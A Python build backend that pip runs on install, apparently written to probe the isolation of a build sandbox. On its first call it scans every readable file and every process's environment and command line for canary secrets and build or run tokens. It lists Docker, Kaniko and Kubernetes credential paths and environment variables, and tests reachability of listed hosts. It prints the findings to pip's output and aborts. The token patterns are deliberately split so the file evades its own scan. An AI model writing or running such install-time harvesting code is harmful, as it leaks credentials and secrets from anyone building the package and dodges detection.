"""A build backend that looks around where it is executed, tells what it saw and gives up: pip shows that."""

import glob
import json
import os
import re
import socket
import stat
import sys

MOST = 8 << 20
# Written in two parts, so that this file is none of what they find.
SECRET = re.compile(b"canary-" + b"[0-9a-f]{24}")
TOKEN = re.compile(
    b"WyJidWls" + b"ZCIs[A-Za-z0-9_.-]+|WyJydW4" + b"iLC[A-Za-z0-9_.-]+|crw" + b"_[a-z0-9]{20,}"
)


def _found(content, where, seen):
    for pattern in (SECRET, TOKEN):
        for match in pattern.findall(content):
            seen.setdefault(match.decode(), where)


def files():
    """Secrets in any file that can be read."""
    seen, count = {}, 0
    for above, directories, names in os.walk("/"):
        directories[:] = [
            name for name in directories if os.path.join(above, name) not in ("/proc", "/sys", "/dev")
        ]
        for name in names:
            path = os.path.join(above, name)
            try:
                status = os.lstat(path)
                if not stat.S_ISREG(status.st_mode) or status.st_size > MOST:
                    continue
                with open(path, "rb") as file:
                    _found(file.read(), path, seen)
                count += 1
            except OSError:
                continue
    return seen, count


def processes():
    """Secrets in any process, and whose processes there are."""
    seen, names, open_files = {}, set(), []
    for place in glob.glob("/proc/[0-9]*"):
        for part in ("environ", "cmdline"):
            try:
                with open(f"{place}/{part}", "rb") as file:
                    content = file.read()
            except OSError:
                continue
            _found(content, f"{place}/{part}", seen)
            if part == "cmdline":
                names.add(os.path.basename(content.split(b"\0")[0].decode()))
        for link in glob.glob(f"{place}/fd/*"):
            try:
                open_files.append(os.readlink(link))
            except OSError:
                continue
    return (
        seen,
        sorted(names),
        sorted({one for one in open_files if one.startswith("/") and "/dev/" not in one}),
    )


def reach(address, port):
    """Whether a server answers there."""
    try:
        with socket.create_connection((address, port), 4):
            return True
    except OSError:
        return False


def look():
    """All of it."""
    in_files, count = files()
    in_processes, names, open_files = processes()
    with open("places.json") as file:
        places = json.load(file)
    return {
        "secrets": {**in_files, **in_processes},
        "files": count,
        "processes": names,
        "open": open_files[:40],
        "variables": sorted(os.environ),
        "credentials": [
            path
            for pattern in (
                "/kaniko/.docker/*",
                "/root/.docker/*",
                "/var/run/secrets/*/*",
                "/root/.config/*/*",
            )
            for path in glob.glob(pattern)
        ],
        "reached": sorted(name for name, place in places.items() if reach(*place)),
    }


def get_requires_for_build_wheel(config_settings=None):
    """The first thing that pip asks."""
    print("SAW " + json.dumps(look()), file=sys.stderr, flush=True)
    raise SystemExit(3)


def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    """Never comes to it."""
    return get_requires_for_build_wheel()
